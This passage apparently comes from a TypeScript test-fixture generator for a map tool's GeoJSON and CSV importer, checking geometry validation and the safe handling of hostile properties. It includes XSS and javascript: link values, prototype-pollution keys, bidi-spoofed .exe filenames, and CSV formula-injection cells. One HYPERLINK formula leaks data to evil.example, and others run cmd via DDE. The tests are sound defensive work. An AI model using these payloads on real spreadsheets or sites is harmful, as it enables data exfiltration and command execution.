      withBad(feature({ type: 'GeometryCollection', geometries: [{ type: 'MultiPoint', coordinates: [] }] })),
      err('no-geometry', atFeature(2), 'is empty'),
    ),
    c(
      'collection-nested.geojson',
      'a GeometryCollection inside a GeometryCollection (RFC 7946 §3.1.8: avoid)',
      fcOf(
        feature({
          type: 'GeometryCollection',
          geometries: [point(), { type: 'GeometryCollection', geometries: [point(GORIS)] }],
        }),
      ),
      ok('accepted, flattened into one collection', {
        features: 1,
        geometry: { feature: 0, value: { type: 'GeometryCollection', geometries: [point(), point(GORIS)] } },
      }),
    ),
    c(
      'collection-nested-5.geojson',
      'GeometryCollections nested 5 deep around a clockwise polygon',
      (() => {
        let g: unknown = { type: 'Polygon', coordinates: [CW] };
        for (let i = 0; i < 5; i++) g = { type: 'GeometryCollection', geometries: [g] };
        return fcOf(feature(g));
      })(),
      ok('accepted, flattened, the ring rewound', {
        features: 1,
        rewoundRings: 1,
        rfcWinding: true,
        geometry: {
          feature: 0,
          value: { type: 'GeometryCollection', geometries: [{ type: 'Polygon', coordinates: [CCW] }] },
        },
      }),
    ),
    c(
      'polygon-empty.geojson',
      'a Polygon with no rings',
      withBad(feature({ type: 'Polygon', coordinates: [] })),
      err('no-geometry', atFeature(2), 'the Polygon is empty'),
    ),
    c(
      'multipoint-empty.geojson',
      'a MultiPoint with no points',
      withBad(feature({ type: 'MultiPoint', coordinates: [] })),
      err('no-geometry', atFeature(2), 'the MultiPoint is empty'),
    ),
    c(
      'linestring-empty.geojson',
      'a LineString with no positions',
      withBad(feature({ type: 'LineString', coordinates: [] })),
      err('no-geometry', atFeature(2), 'the LineString is empty'),
    ),
    c(
      'multilinestring-empty.geojson',
      'a MultiLineString with no lines',
      withBad(feature({ type: 'MultiLineString', coordinates: [] })),
      err('no-geometry', atFeature(2), 'the MultiLineString is empty'),
    ),
    c(
      'multipolygon-empty.geojson',
      'a MultiPolygon with no polygons',
      withBad(feature({ type: 'MultiPolygon', coordinates: [] })),
      err('no-geometry', atFeature(2), 'the MultiPolygon is empty'),
    ),
    c(
      'properties-string.geojson',
      'properties that are a string (once read as columns "0", "1"…)',
      withBad(feature(point(), XSS.img)),
      invalid(2, 'properties must be an object or null'),
    ),
    c(
      'properties-array.geojson',
      'properties that are an array',
      withBad(feature(point(), ['a', 'b'])),
      invalid(2, 'properties must be an object or null'),
    ),
    c(
      'properties-number.geojson',
      'properties that are a number',
      withBad(feature(point(), 5)),
      invalid(2, 'properties must be an object or null'),
    ),
    c(
      'properties-null.geojson',
      'properties null (allowed)',
      fcOf(feature(point(), null)),
      ok('imported without properties', { features: 1, columns: [] }),
    ),
    c(
      'properties-empty.geojson',
      'properties {}',
      fcOf(feature(point(), {})),
      ok('imported without properties', { features: 1, columns: [] }),
    ),
    c(
      'id-object.geojson',
      'a feature id that is an object (ids are not kept)',
      fcOf({ ...good, id: { __proto__: 1, x: XSS.img } }),
      ok('imported; the id is dropped', { features: 1 }),
    ),
    c(
      'bbox-wrong-length.geojson',
      'a collection bbox of 3 numbers',
      { ...fcOf(good), bbox: [1, 2, 3] },
      err('invalid-geojson', FILE, 'bbox'),
    ),
    c(
      'foreign-members.geojson',
      'foreign members: crs, a title with a script, a style',
      {
        type: 'FeatureCollection',
        crs: { type: 'name', properties: { name: 'EPSG:4326' } },
        title: XSS.script,
        style: { fill: XSS.js },
        features: [good],
      },
      ok('imported; foreign members are ignored', { features: 1 }),
    ),
    c(
      'bad-feature-150.geojson',
      'feature 150 of 200 has a string for coordinates',
      fcOf(
        ...Array.from({ length: 200 }, (_, i) =>
          i === 149 ? feature({ type: 'Point', coordinates: 'x' }) : feature(point()),
        ),
      ),
      invalid(150, "a Point's coordinates must be a position"),
    ),
  ];
  // CSV structure.
  const cc = (file: string, tests: string, lines: string[], expect: Expected): Case => ({
    file: `structure/${file}`,
    family,
    tests,
    content: () => csv(...lines),
    expect,
  });
  const noLatLon = err('no-lat-lon-columns', atRow(1), 'no latitude and longitude columns');
  cases.push(
    cc(
      'csv-no-coordinate-columns.csv',
      'no latitude or longitude column',
      ['event_date,location', '2023-09-19,Stepanakert'],
      noLatLon,
    ),
    cc(
      'csv-only-latitude.csv',
      'a latitude column but no longitude',
      ['event_date,latitude,location', '2023-09-19,39.8,Stepanakert'],
      noLatLon,
    ),
    cc(
      'csv-x-y-columns.csv',
      'coordinates in columns named x and y',
      ['x,y,event_date', '46.7,39.8,2023-09-19'],
      noLatLon,
    ),
    cc('csv-json-in-header.csv', 'a header that is JSON text', ['{"type":"FeatureCollection"}', '1'], noLatLon),
    cc(
      'csv-duplicate-column.csv',
      'two columns named notes',
      ['latitude,longitude,notes,notes', '39.8,46.7,a,b'],
      err('duplicate-column', atRow(1), 'columns 3 and 4'),
    ),
    cc(
      'csv-duplicate-latitude.csv',
      'two latitude columns with different values',
      ['latitude,longitude,latitude', '39.8,46.7,40.1'],
      err('duplicate-column', atRow(1), 'columns 1 and 3'),
    ),
    cc(
      'csv-row-too-long.csv',
      'row 3 has one cell too many',
      [CSV_HEAD, GOOD_ROWS[0] ?? '', `${GOOD_ROWS[1]},extra`],
      err('row-length', atRow(3), '6 cells, but the header has 5 columns'),
    ),
    cc(
      'csv-row-too-short.csv',
      'row 2 has a cell missing',
      [CSV_HEAD, '2023-09-19,39.8,46.7,Stepanakert', GOOD_ROWS[1] ?? ''],
      err('row-length', atRow(2), '4 cells, but the header has 5 columns'),
    ),
    cc(
      'csv-blank-lines-counted.csv',
      'blank lines before a short row still count as rows',
      [CSV_HEAD, GOOD_ROWS[0] ?? '', '', '', 'x'],
      err('row-length', atRow(5), '1 cell, but the header has 5 columns'),
    ),
    cc(
      'csv-semicolons.csv',
      'semicolons between cells (as European spreadsheets write)',
      ['latitude;longitude;event_date', '39.8153;46.7528;2023-09-19'],
      ok('the delimiter is found', { features: 1, coordinates: { feature: 0, value: STEPANAKERT } }),
    ),
    cc(
      'csv-tabs.csv',
      'tabs between cells',
      ['latitude\tlongitude\tevent_date', '39.8153\t46.7528\t2023-09-19'],
      ok('the delimiter is found', { features: 1 }),
    ),
    cc(
      'csv-unnamed-columns.csv',
      'columns without names',
      [',latitude,longitude,', 'a,39.8,46.7,b'],
      ok('unnamed columns get names', { features: 1, columns: ['column_1', 'latitude', 'longitude', 'column_4'] }),
    ),
    cc(
      'csv-quoted-newlines.csv',
      'quoted cells with line breaks, commas and quotes',
      [CSV_HEAD, '2023-09-19,39.8153,46.7528,Stepanakert,"line one\nline two, with ""quotes"""', GOOD_ROWS[1] ?? ''],
      ok('the cell keeps its line break; rows are counted as records', {
        features: 2,
        props: [{ feature: 0, key: 'notes', value: 'line one\nline two, with "quotes"' }],
      }),
    ),
    cc(
      'csv-mixed-line-endings.csv',
      'lines ending in \\r\\n, \\n and \\r in one file',
      [`${CSV_HEAD}\r\n${GOOD_ROWS[0]}\r${GOOD_ROWS[1]}\n${GOOD_ROWS[0]}`],
      ok('every line is a row', { features: 3 }),
    ),
    cc(
      'csv-stray-quote.csv',
      'a quote inside an unquoted cell',
      [CSV_HEAD, '2023-09-19,39.8153,46.7528,Stepanakert,5" of snow'],
      ok('kept as text', { features: 1, props: [{ feature: 0, key: 'notes', value: '5" of snow' }] }),
    ),
    cc(
      'csv-5000-bad-rows.csv',
      '5,000 rows with letters for coordinates',
      ['latitude,longitude', ...Array(5000).fill('north,east')],
      err('bad-coordinate', atRow(2), 'is not a number', 10_000),
    ),
  );
  return cases;
}

function rfcCases(): Case[] {
  const family = 'rfc7946' as const;
  const c = (file: string, tests: string, content: unknown, expect: Expected): Case => ({
    file: `rfc7946/${file}`,
    family,
    tests,
    content: () => (content instanceof Uint8Array ? content : json(content)),
    expect,
  });
  const range = (n: number, path = '') =>
    err('out-of-range', atFeature(n), `${path}is outside longitude ±180 / latitude ±90`);
  const poly = (...rings: unknown[]) => feature({ type: 'Polygon', coordinates: rings });
  const cases: Case[] = [
    c('longitude-181.geojson', 'longitude 181', withBad(feature(point([181, 39.8]))), range(2)),
    c('longitude-minus-180.0001.geojson', 'longitude -180.0001', withBad(feature(point([-180.0001, 39.8]))), range(2)),
    c('latitude-90.5.geojson', 'latitude 90.5', withBad(feature(point([46.7, 90.5]))), range(2)),
    c('latitude-minus-91.geojson', 'latitude -91', withBad(feature(point([46.7, -91]))), range(2)),
    c(
      'position-500-minus-300.geojson',
      '[500, -300] as the second position of a line',
      fcOf(feature({ type: 'LineString', coordinates: [STEPANAKERT, [500, -300]] })),
      range(1, '[500, -300] '),
    ),
    c(
      'ring-out-of-range.geojson',
      'a polygon corner at latitude 100',
      fcOf(
        poly([
          [46.7, 39.79],
          [46.79, 39.79],
          [46.79, 100],
          [46.7, 39.79],
        ]),
      ),
      range(1),
    ),
    c('1e308-longitude.geojson', 'longitude 1e308', withBad(feature(point([1e308, 39.8]))), range(2)),
    c(
      'web-mercator.geojson',
      'Web Mercator metres (EPSG:3857) with a crs member',
      {
        type: 'FeatureCollection',
        crs: { type: 'name', properties: { name: 'EPSG:3857' } },
        features: [feature(point([5204498.6, 4839537.4]))],
      },
      range(1),
    ),
    c(
      'extremes.geojson',
      'longitude ±180 and latitude ±90 exactly',
      fcOf(feature(point([180, 90])), feature(point([-180, -90]))),
      ok("accepted, outside the map's region", { features: 2, outsideRegion: 2, swapped: 0 }),
    ),
    c(
      'swapped-point.geojson',
      'Stepanakert written latitude first',
      fcOf(feature(point([39.8153, 46.7528]))),
      ok('accepted; counted outside the region and as perhaps latitude first', {
        features: 1,
        outsideRegion: 1,
        swapped: 1,
      }),
    ),
    c(
      'swapped-line.geojson',
      'a road written latitude first',
      fcOf(
        feature({
          type: 'LineString',
          coordinates: [
            [39.8153, 46.7528],
            [39.5075, 46.3383],
          ],
        }),
      ),
      ok('accepted; counted as perhaps latitude first', { features: 1, outsideRegion: 1, swapped: 1 }),
    ),
    c(
      'outside-not-swapped.geojson',
      'Moscow: outside the region, not swapped',
      fcOf(feature(point([37.6173, 55.7558]))),
      ok('accepted; outside the region, not counted as swapped', { features: 1, outsideRegion: 1, swapped: 0 }),
    ),
    c(
      'unclosed-ring.geojson',
      'an exterior ring that does not end where it starts',
      withBad(poly(CCW.slice(0, 4).concat([[46.7, 39.8]]))),
      err('ring-not-closed', atFeature(2), 'a ring must end where it starts'),
    ),
    c(
      'unclosed-hole.geojson',
      'a hole that does not close',
      fcOf(poly(CCW, HOLE_CW.slice(0, 4))),
      err('ring-not-closed', atFeature(1), 'a ring must end where it starts'),
    ),
    c(
      'ring-open-in-altitude.geojson',
      'a ring closed in longitude and latitude but not in elevation',
      fcOf(poly(CCW.map((p, i) => [...p, i === 4 ? 100 : 0]))),
      err('ring-not-closed', atFeature(1), 'in every value'),
    ),
    c(
      'ring-3-positions.geojson',
      'a ring of 3 positions (a closed triangle needs 4)',
      withBad(
        poly([
          [46.7, 39.79],
          [46.79, 39.79],
          [46.7, 39.79],
        ]),
      ),
      err('ring-too-short', atFeature(2), 'it has 3'),
    ),
    c(
      'ring-2-positions.geojson',
      'a ring of 2 positions',
      withBad(
        poly([
          [46.7, 39.79],
          [46.7, 39.79],
        ]),
      ),
      err('ring-too-short', atFeature(2), 'it has 2'),
    ),
    c(
      'hole-empty.geojson',
      'a polygon with an empty hole',
      fcOf(poly(CCW, [])),
      err('ring-too-short', atFeature(1), 'it has 0'),
    ),
    c(
      'multipolygon-empty-member.geojson',
      'a MultiPolygon with one polygon without rings',
      fcOf(feature({ type: 'MultiPolygon', coordinates: [[CCW], []] })),
      err('ring-too-short', atFeature(1), 'needs an exterior ring'),
    ),
    c(
      'clockwise-exterior.geojson',
      'a clockwise exterior ring (RFC 7946 §3.1.6: accept and rewind)',
      fcOf(poly(CW)),
      ok('accepted; the ring is rewound counter-clockwise', {
        features: 1,
        rewoundRings: 1,
        rfcWinding: true,
        geometry: { feature: 0, value: { type: 'Polygon', coordinates: [CCW] } },
      }),
    ),
    c(
      'counterclockwise-hole.geojson',
      'a hole running counter-clockwise',
      fcOf(poly(CCW, HOLE_CCW)),
      ok('accepted; the hole is rewound clockwise', {
        features: 1,
        rewoundRings: 1,
        rfcWinding: true,
        geometry: { feature: 0, value: { type: 'Polygon', coordinates: [CCW, HOLE_CW] } },
      }),
    ),
    c(
      'both-rings-wrong.geojson',
      'exterior clockwise and hole counter-clockwise',
      fcOf(poly(CW, HOLE_CCW)),
      ok('accepted; both rings rewound', { features: 1, rewoundRings: 2, rfcWinding: true }),
    ),
    c(
      'multipolygon-clockwise.geojson',
      'a MultiPolygon of two clockwise polygons',
      fcOf(feature({ type: 'MultiPolygon', coordinates: [[CW], [CW.map(([x = 0, y = 0]) => [x - 0.3, y - 0.2])]] })),
      ok('accepted; both rewound', { features: 1, rewoundRings: 2, rfcWinding: true }),
    ),
    c(
      'collection-clockwise.geojson',
      'a clockwise polygon inside a GeometryCollection',
      fcOf(feature({ type: 'GeometryCollection', geometries: [point(), { type: 'Polygon', coordinates: [CW] }] })),
      ok('accepted; the ring rewound', { features: 1, rewoundRings: 1, rfcWinding: true }),
    ),
    c(
      'rfc-winding.geojson',
      'rings already in RFC 7946 order',
      fcOf(poly(CCW, HOLE_CW)),
      ok('accepted; nothing rewound', { features: 1, rewoundRings: 0, rfcWinding: true }),
    ),
    c(
      'zero-area-ring.geojson',
      'a ring with no area (there and back)',
      fcOf(
        poly([
          [46.7, 39.79],
          [46.79, 39.79],
          [46.7, 39.79],
          [46.7, 39.79],
        ]),
      ),
      ok('accepted; not counted as rewound (it has no direction)', { features: 1, rewoundRings: 0 }),
    ),
    c(
      'linestring-one-position.geojson',
      'a line of 1 position',
      withBad(feature({ type: 'LineString', coordinates: [STEPANAKERT] })),
      err('line-too-short', atFeature(2), 'a line needs at least 2 positions'),
    ),
    c(
      'multilinestring-short-part.geojson',
      'the second line of a MultiLineString has 1 position',
      withBad(feature({ type: 'MultiLineString', coordinates: [[STEPANAKERT, GORIS], [GORIS]] })),
      err('line-too-short', atFeature(2), 'it has 1'),
    ),
    c(
      'position-one-number.geojson',
      'a position of 1 number',
      withBad(feature(point([46.7]))),
      err('bad-coordinate', atFeature(2), 'a position must be [longitude, latitude]'),
    ),
    c(
      'position-four-numbers.geojson',
      'a position of 4 numbers',
      withBad(feature(point([46.7, 39.8, 100, 5]))),
      err('bad-coordinate', atFeature(2), 'a position must be [longitude, latitude]'),
    ),
    c(
      'position-strings.geojson',
      'a position of strings',
      withBad(feature(point(['46.7', '39.8']))),
      err('bad-coordinate', atFeature(2), 'finite numbers'),
    ),
    c(
      'position-nulls.geojson',
      'a position of nulls',
      withBad(feature(point([null, null]))),
      err('bad-coordinate', atFeature(2), 'finite numbers'),
    ),
    c(
      'position-booleans.geojson',
      'a position of booleans',
      withBad(feature(point([true, false]))),
      err('bad-coordinate', atFeature(2), 'finite numbers'),
    ),
    c(
      'position-empty.geojson',
      'an empty position',
      withBad(feature(point([]))),
      err('bad-coordinate', atFeature(2), 'a position must be [longitude, latitude]'),
    ),
    c(
      'elevation.geojson',
      'positions with elevation',
      fcOf(
        feature({
          type: 'LineString',
          coordinates: [
            [...STEPANAKERT, 800],
            [...GORIS, 1400],
          ],
        }),
      ),
      ok('accepted with the elevation kept', {
        features: 1,
        geometry: {
          feature: 0,
          value: {
            type: 'LineString',
            coordinates: [
              [...STEPANAKERT, 800],
              [...GORIS, 1400],
            ],
          },
        },
      }),
    ),
    c(
      'antimeridian.geojson',
      'a line across the antimeridian',
      fcOf(
        feature({
          type: 'LineString',
          coordinates: [
            [179.5, 0],
            [-179.5, 0],
          ],
        }),
      ),
      ok('accepted, outside the region', { features: 1, outsideRegion: 1 }),
    ),
    c(
      'negative-zero.geojson',
      'coordinates of -0',
      utf8(JSON.stringify(fcOf(feature(point([1, 1])))).replace('[1,1]', '[-0,-0.0]')),
      ok('accepted, outside the region', { features: 1, outsideRegion: 1 }),
    ),
    c(
      'many-digits.geojson',
      'coordinates with 30 decimal places',
      utf8(
        JSON.stringify(fcOf(feature(point([1, 1])))).replace(
          '[1,1]',
          '[46.752812345678901234567890123,39.815312345678901234567890123]',
        ),
      ),
      ok('accepted, rounded to the nearest double', { features: 1 }),
    ),
  ];
  const cc = (file: string, tests: string, lines: string[], expect: Expected): Case => ({
    file: `rfc7946/${file}`,
    family,
    tests,
    content: () => csv(...lines),
    expect,
  });
  cases.push(
    cc(
      'csv-latitude-91.csv',
      'latitude 91 in row 3',
      [CSV_HEAD, GOOD_ROWS[0] ?? '', '2023-09-20,91,46.7,x,y'],
      err('out-of-range', atRow(3), 'is outside −90…90 degrees'),
    ),
    cc(
      'csv-longitude-181.csv',
      'longitude 181 in row 2',
      [CSV_HEAD, '2023-09-20,39.8,181,x,y'],
      err('out-of-range', atRow(2), 'is outside −180…180 degrees'),
    ),
    cc(
      'csv-latitude-minus-90.0001.csv',
      'latitude -90.0001',
      [CSV_HEAD, '2023-09-20,-90.0001,46.7,x,y'],
      err('out-of-range', atRow(2), 'is outside −90…90 degrees'),
    ),
    cc(
      'csv-1e999.csv',
      'latitude 1e999 (Infinity as a number)',
      [CSV_HEAD, '2023-09-20,1e999,46.7,x,y'],
      err('bad-coordinate', atRow(2), 'too large to be a number'),
    ),
    cc(
      'csv-comma-decimal.csv',
      'a decimal comma ("39,8153" quoted)',
      [CSV_HEAD, '2023-09-20,"39,8153",46.7528,x,y'],
      err('bad-coordinate', atRow(2), 'is not a number'),
    ),
    cc(
      'csv-degrees-minutes.csv',
      'degrees, minutes and seconds',
      [CSV_HEAD, '2023-09-20,39°48′55″N,46.7528,x,y'],
      err('bad-coordinate', atRow(2), 'is not a number'),
    ),
    cc(
      'csv-nan.csv',
      'NaN as a latitude',
      [CSV_HEAD, '2023-09-20,NaN,46.7528,x,y'],
      err('bad-coordinate', atRow(2), 'is not a number'),
    ),
    cc(
      'csv-hex.csv',
      'a hexadecimal longitude',
      [CSV_HEAD, '2023-09-20,39.8,0x2E,x,y'],
      err('bad-coordinate', atRow(2), 'is not a number'),
    ),
    cc(
      'csv-empty-coordinate.csv',
      'an empty longitude in row 3',
      [CSV_HEAD, GOOD_ROWS[0] ?? '', '2023-09-20,39.8,,x,y'],
      err('bad-coordinate', atRow(3), 'the cell is empty'),
    ),
    cc(
      'csv-swapped.csv',
      "latitude and longitude columns holding each other's values",
      ['latitude,longitude,event_date', '46.7528,39.8153,2023-09-19', '46.7486,39.7583,2023-09-20'],
      ok('accepted; counted as perhaps latitude first', { features: 2, outsideRegion: 2, swapped: 2 }),
    ),
    cc(
      'csv-spaces-around-numbers.csv',
      'coordinates with spaces around them',
      [CSV_HEAD, '2023-09-19, 39.8153 , 46.7528 ,Stepanakert,x'],
      ok('accepted', { features: 1, coordinates: { feature: 0, value: STEPANAKERT } }),
    ),
  );
  return cases;
}

function propertyCases(): Case[] {
  const family = 'properties' as const;
  const c = (file: string, tests: string, content: () => Uint8Array, expect: Expected, name?: string): Case => ({
    file: `properties/${file}`,
    family,
    tests,
    content,
    expect,
    ...(name ? { name } : {}),
  });
  const withProps = (props: Record<string, unknown>) => json(fcOf(feature(point(), { name: 'Stepanakert', ...props })));
  const kept = (key: string, value: PropValue, holds = 'kept as the exact text, never markup'): Expected =>
    ok(holds, { features: 1, props: [{ feature: 0, key, value }] });
  const cases: Case[] = [];
  for (const [label, key] of [
    ['img', 'img'],
    ['svg', 'svg'],
    ['script', 'script'],
    ['iframe', 'iframe'],
    ['attribute-breakout', 'attr'],
    ['details-ontoggle', 'details'],
    ['style-import', 'style'],
    ['template-injection', 'template'],
  ] as const) {
    const value = XSS[key];
    cases.push(
      c(
        `xss-${label}.geojson`,
        `a property holding ${value}`,
        () => withProps({ description: value }),
        kept('description', value),
      ),
    );
  }
  for (const [label, key] of [
    ['javascript', 'js'],
    ['javascript-mixed-case', 'jsMixed'],
    ['javascript-whitespace', 'jsSpace'],
    ['javascript-tab', 'jsTab'],
    ['javascript-entity', 'jsEntity'],
    ['data-html', 'dataHtml'],
    ['data-svg', 'dataSvg'],
    ['vbscript', 'vbscript'],
    ['https', 'https'],
  ] as const) {
    const value = XSS[key];
    cases.push(
      c(
        `link-${label}.geojson`,
        `a "url" property of ${JSON.stringify(value)}`,
        () => withProps({ url: value, source: value }),
        kept('url', value, 'kept as text; no link is made from it'),
      ),
    );
  }
  const proto = (
    file: string,
    tests: string,
    text: string,
    absent: string[],
    holds: string,
    props?: AcceptCheck['props'],
  ) => cases.push(c(file, tests, () => utf8(text), ok(holds, { features: 1, absent, ...(props ? { props } : {}) })));
  const base = JSON.stringify(fcOf(feature(point(), { name: 'Stepanakert' })));
  const inProps = (members: string) => base.replace('"name":"Stepanakert"', `"name":"Stepanakert",${members}`);
  proto(
    'proto-key.geojson',
    'a "__proto__" property with an object',
    inProps('"__proto__":{"polluted":"yes","isAdmin":true}'),
    ['__proto__'],
    'the key is not kept and no prototype changes',
  );
  proto(
    'constructor-prototype.geojson',
    '"constructor": {"prototype": {...}}',
    inProps('"constructor":{"prototype":{"polluted":"yes"}}'),
    ['constructor'],
    'the key is not kept',
  );
  proto(
    'prototype-key.geojson',
    'a "prototype" property',
    inProps('"prototype":{"polluted":"yes"}'),
    ['prototype'],
    'the key is not kept',
  );
  proto(
    'proto-string.geojson',
    'a "__proto__" property holding a string',
    inProps(`"__proto__":${JSON.stringify(XSS.img)}`),
    ['__proto__'],
    'the key is not kept',
  );
  proto(
    'proto-in-geometry.geojson',
    'a "__proto__" member in a geometry',
    base.replace('{"type":"Point"', '{"__proto__":{"type":"Polygon","polluted":"yes"},"type":"Point"'),
    ['__proto__'],
    'the foreign member is dropped; the point is still a point',
  );
  proto(
    'proto-in-feature.geojson',
    'a "__proto__" member in a feature',
    base.replace('{"type":"Feature"', '{"__proto__":{"polluted":"yes"},"type":"Feature"'),
    ['__proto__'],
    'ignored',
  );
  proto(
    'proto-at-top.geojson',
    'a "__proto__" member beside "features"',
    base.replace('{"type":"FeatureCollection"', '{"__proto__":{"polluted":"yes"},"type":"FeatureCollection"'),
    ['__proto__'],
    'ignored',
  );
  proto(
    'object-method-names.geojson',
    'properties named toString, valueOf, hasOwnProperty and __defineGetter__',
    inProps('"toString":"a","valueOf":"b","hasOwnProperty":"c","__defineGetter__":"d"'),
    ['__proto__'],
    'kept as ordinary data',
    [
      { feature: 0, key: 'toString', value: 'a' },
      { feature: 0, key: 'hasOwnProperty', value: 'c' },
      { feature: 0, key: '__defineGetter__', value: 'd' },
    ],
  );
  const MB = 1_000_000;
  cases.push(
    c(
      'string-1mb.geojson',
      'a 1 MB property value',
      () => withProps({ notes: 'A'.repeat(MB) }),
      ok('kept, cut to 2,000 characters', { features: 1, props: [{ feature: 0, key: 'notes', length: 2000 }] }),
    ),
    big(
      c(
        'key-1mb.geojson',
        'a 1 MB property name',
        () => withProps({ ['k'.repeat(MB)]: 'v' }),
        ok('kept, the name cut to 200 characters, and listed as kept', {
          features: 1,
          columns: ['name', `${'k'.repeat(199)}…`],
        }),
      ),
    ),
    c(
      'xss-key.geojson',
      'a property name that is an HTML payload',
      () => withProps({ [XSS.img]: XSS.svg }),
      ok('kept as text', { features: 1, props: [{ feature: 0, key: XSS.img, value: XSS.svg }] }),
    ),
    c(
      'nested-object.geojson',
      'a nested object and an array as values',
      () => withProps({ tags: { a: [1, { b: XSS.img }] }, list: [1, 'two'] }),
      ok('kept as JSON text', {
        features: 1,
        props: [
          { feature: 0, key: 'tags', value: `{"a":[1,{"b":${JSON.stringify(XSS.img)}}]}` },
          { feature: 0, key: 'list', value: '[1,"two"]' },
        ],
      }),
    ),
    c(
      'primitives.geojson',
      'numbers, booleans, null, -0 and tiny numbers',
      () => withProps({ n: 3, f: false, z: null, neg: -0, tiny: 1e-7 }),
      ok('kept as they are', {
        features: 1,
        props: [
          { feature: 0, key: 'n', value: 3 },
          { feature: 0, key: 'f', value: false },
          { feature: 0, key: 'z', value: null },
          { feature: 0, key: 'tiny', value: 1e-7 },
        ],
      }),
    ),
    c(
      'empty-name.geojson',
      'a property with an empty name',
      () => withProps({ '': 'nameless' }),
      kept('', 'nameless', 'kept'),
    ),
    c(
      't-property.geojson',
      'a property named "t", the name the map gives times',
      () => withProps({ t: 0, date: '2023-09-20' }),
      ok('the time comes from the date, not from "t"', {
        features: 1,
        times: [{ feature: 0, value: local(2023, 9, 20) }],
        props: [{ feature: 0, key: 't', value: 0 }],
      }),
    ),
    c(
      'control-characters.geojson',
      'terminal escapes and control characters',
      () => withProps({ notes: '\u001b[31mred\u0007\u0008\u0000' }),
      kept('notes', '\u001b[31mred\u0007\u0008\u0000'),
    ),
    c(
      'emoji-and-scripts.geojson',
      'emoji, Armenian, Cyrillic and Arabic',
      () => withProps({ notes: SCRIPTS }),
      kept('notes', SCRIPTS),
    ),
    c(
      'columns-1000.geojson',
      'exactly 1,000 distinct property names',
      () => json(fcOf(feature(point(), Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`p${i}`, i]))))),
      ok('accepted: at the limit', { features: 1 }),
    ),
    c(
      'columns-1001.geojson',
      '1,001 distinct property names across two features',
      () =>
        json(
          fcOf(
            feature(point(), Object.fromEntries(Array.from({ length: 600 }, (_, i) => [`a${i}`, i]))),
            feature(point(), Object.fromEntries(Array.from({ length: 401 }, (_, i) => [`b${i}`, i]))),
          ),
        ),
      err('too-many-columns', FILE, '1,001 distinct property names; the limit is 1,000'),
    ),
    c(
      'xss-feature-id.geojson',
      'a feature id that is an HTML payload',
      () => json(fcOf({ ...feature(point()), id: XSS.img })),
      ok('imported; the id is not kept', { features: 1 }),
    ),
  );
  const bidi: [string, string][] = [
    ['rlo', '\u202e'],
    ['lro', '\u202d'],
    ['rle', '\u202b'],
    ['lre', '\u202a'],
    ['pdf', '\u202c'],
    ['rli', '\u2067'],
    ['lri', '\u2066'],
    ['fsi', '\u2068'],
    ['pdi', '\u2069'],
    ['rlm', '\u200f'],
    ['alm', '\u061c'],
  ];
  for (const [label, ch] of bidi) {
    const value = `invoice${ch}gpj.exe`;
    cases.push(
      c(
        `bidi-${label}.geojson`,
        `U+${ch.charCodeAt(0).toString(16).toUpperCase()} in a property`,
        () => withProps({ notes: value }),
        kept('notes', value, 'kept exactly, shown with the control spelt out wherever a message quotes it'),
      ),
    );
  }
  // Names are part of the test: what the reader sees in the list and in messages.
  const good = () => withProps({});
  cases.push(
    c(
      'name-xss.geojson',
      'a file named like an HTML payload',
      good,
      ok('listed under its name as text', { features: 1 }),
      `${XSS.img}.geojson`,
    ),
    c(
      'name-rlo.geojson',
      'a file name with U+202E (evil‮nosj.exe reads as evilexe.json)',
      good,
      ok('listed with \\u202e spelt out', { features: 1 }),
      'evil\u202enosj.exe.geojson',
    ),
    c(
      'name-rlo-broken.geojson',
      'a broken file whose name has U+202E',
      () => utf8('{'),
      err('json-syntax', FILE, 'not valid JSON'),
      'report\u202ecod.geojson',
    ),
    c(
      'name-long.geojson',
      'a file name of 250 characters',
      good,
      ok('listed, the name cut', { features: 1 }),
      `${'long-name-'.repeat(25)}.geojson`,
    ),
    c('name-uppercase.GEOJSON', 'an upper-case extension', good, ok('read as GeoJSON', { features: 1 })),
    c(
      'name-kml.kml',
      'a .kml file',
      good,
      err('unsupported-type', FILE, 'only .geojson, .json and .csv files can be imported'),
    ),
    c(
      'name-no-extension',
      'a file without an extension',
      good,
      err('unsupported-type', FILE, 'only .geojson, .json and .csv'),
    ),
    c(
      'name-double-extension.csv.exe',
      'a .csv.exe file',
      () => csv(CSV_HEAD, ...GOOD_ROWS),
      err('unsupported-type', FILE, 'only .geojson, .json and .csv'),
    ),
  );
  // CSV cells.
  const cc = (file: string, tests: string, lines: string[], expect: Expected): Case => ({
    file: `properties/${file}`,
    family,
    tests,
    content: () => csv(...lines),
    expect,
  });
  const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
  const formulas = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
  ];
  cases.push(
    cc(
      'csv-formulas.csv',
      'formula cells starting with = + - @ tab and carriage return, in 3 columns',
      ['latitude,longitude,a,b,c', ...formulas.map((f) => `39.8153,46.7528,${q(f)},${q(f)},${q(f)}`)],
      ok("imported as text; the CSV export starts each of the 18 formula cells with '", {
        features: 6,
        props: [
          { feature: 0, key: 'a', value: formulas[0] ?? '' },
          { feature: 5, key: 'c', value: '\r=1+1' },
        ],
        exportEscapes: 18,
      }),
    ),
    cc(
      'csv-xss-cells.csv',
      'HTML payloads in cells',
      [CSV_HEAD, `2023-09-19,39.8153,46.7528,${q(XSS.img)},${q(XSS.svg)}`],
      ok('kept as text', {
        features: 1,
        props: [
          { feature: 0, key: 'location', value: XSS.img },
          { feature: 0, key: 'notes', value: XSS.svg },
        ],
      }),
    ),
    cc(
      'csv-javascript-link.csv',
      'a javascript: link in a url column',
      ['latitude,longitude,url', `39.8153,46.7528,${q(XSS.js)}`],
      ok('kept as text; no link is made from it', { features: 1, props: [{ feature: 0, key: 'url', value: XSS.js }] }),
    ),
    cc(
      'csv-proto-columns.csv',
      '__proto__, constructor and prototype columns',
      ['latitude,longitude,__proto__,constructor,prototype,notes', '39.8153,46.7528,{"polluted":1},x,y,ok'],
      ok('those columns are not kept', {
        features: 1,
        absent: ['__proto__', 'constructor', 'prototype'],
        columns: ['latitude', 'longitude', 'notes'],
      }),
    ),
    cc(
      'csv-xss-header.csv',
      'a column named like an HTML payload',
      [`latitude,longitude,${q(XSS.img)}`, '39.8153,46.7528,x'],
      ok('kept as text', { features: 1, columns: ['latitude', 'longitude', XSS.img] }),
    ),
    cc(
      'csv-bidi-cell.csv',
      'U+202E in a cell',
